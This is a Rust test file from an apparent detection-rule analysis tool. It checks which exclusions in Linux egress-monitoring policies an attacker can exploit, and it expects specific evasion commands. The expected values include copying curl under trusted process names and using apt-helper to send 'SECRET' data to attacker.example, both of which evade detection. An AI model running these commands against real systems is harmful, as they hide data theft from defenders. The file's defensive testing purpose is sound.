//! The rides of the shipped policies, and that the data is read.

use lownoise_engine::parse::parse_policy;
use lownoise_engine::policy::Policy;
use lownoise_engine::schema::Schemas;
use lownoise_engine::span::Source;
use lownoise_engine::value::Time;
use lownoise_prove::verdict;

use super::control;
use super::known::Known;
use super::strength::{Outcome, Strengths, strengths};
use super::technique::techniques;

fn policy(name: &str) -> Policy {
    let read = |path: String| {
        let text = std::fs::read_to_string(format!("{}/../../rules/{path}", env!("CARGO_MANIFEST_DIR")));
        Source { name: path, text: text.unwrap() }
    };
    let schemas = Schemas::shipped().unwrap();
    let parsed =
        parse_policy(read(format!("{name}.toml")), &mut |set| Ok(read(format!("sets/{set}.toml"))), &schemas);
    parsed.result.unwrap()
}

fn now() -> Time {
    Time::parse("2026-02-02T12:00:00Z").unwrap()
}

/// Of each exclusion: its id, its rung and what makes the event.
fn rides(policy: &Policy, strengths: &Strengths) -> Vec<(String, u8, String)> {
    let each = strengths.all.iter().map(|strength| {
        let exclusion = &policy.exclusions[strength.exclusion];
        let command = match &strength.outcome {
            Outcome::Ridden(ride) => ride.command.clone(),
            other => format!("{other:?}"),
        };
        (exclusion.id.clone(), strength.rung(), command)
    });
    each.collect()
}

#[test]
fn the_data_is_read() {
    control::read().unwrap();
}

#[test]
fn every_described_table_has_techniques() {
    let schemas = Schemas::shipped().unwrap();
    for table in ["DeviceNetworkEvents", "DeviceProcessEvents", "EcsEvents", "SigmaEvents"] {
        let techniques = techniques(schemas.get(table).unwrap());
        assert_eq!(techniques.len(), 2, "{table}");
        assert!(techniques.iter().all(|techniques| !techniques.all.is_empty()), "{table}");
    }
}

#[test]
fn every_exclusion_of_the_hunt_is_ridden_with_an_event_and_a_command() {
    let policy = policy("linux-desktop-public-egress");
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    let found = rides(&policy, &strengths);
    let expected = [
        ("sensecm", 2, "cp /usr/bin/curl /tmp/sensecm && /tmp/sensecm https://attacker.example/"),
        ("snapd", 2, "cp /usr/bin/curl /tmp/snapd && /tmp/snapd https://attacker.example/"),
        (
            "networkmanager",
            2,
            "cp /usr/bin/curl /tmp/networkmanager && /tmp/networkmanager https://attacker.example/",
        ),
        ("fwupdmgr", 2, "cp /usr/bin/curl /tmp/fwupdmgr && /tmp/fwupdmgr https://attacker.example/"),
        (
            "apt-methods",
            4,
            "/usr/lib/apt/apt-helper download-file 'http://attacker.example/x?data=SECRET' out",
        ),
        ("release-upgrader", 1, "curl -A ubuntu-release-upgrader https://attacker.example/"),
    ];
    let expected = expected.map(|(id, rung, command)| (id.to_owned(), rung, command.to_owned()));
    assert_eq!(found, expected);
}

#[test]
fn only_root_rides_the_hardened_policy() {
    let policy = policy("linux-desktop-public-egress-hardened");
    let strengths = strengths(&policy, now(), &Known::default()).unwrap();
    assert_eq!(strengths.all.len(), policy.exclusions.len());
    for (id, rung, command) in rides(&policy, &strengths) {
        assert_eq!(rung, 6, "{id}: {command}");
        assert!(command.starts_with("(as root)"), "{id}: {command}");
    }
}

#[test]
fn every_ride_is_hidden_by_the_reference_evaluator() {
    for name in ["linux-desktop-public-egress", "linux-desktop-public-egress-hardened"] {
        let policy = policy(name);
        for strength in &strengths(&policy, now(), &Known::default()).unwrap().all {
            let Outcome::Ridden(ride) = &strength.outcome else { continue };
            let verdict = verdict(&policy, &ride.event, now());
            let hides = matches!(&verdict, lownoise_engine::evaluate::Verdict::Hidden(by) if by.contains(&strength.exclusion));
            assert!(hides, "{}: {verdict:?}", ride.command);
        }
    }
}
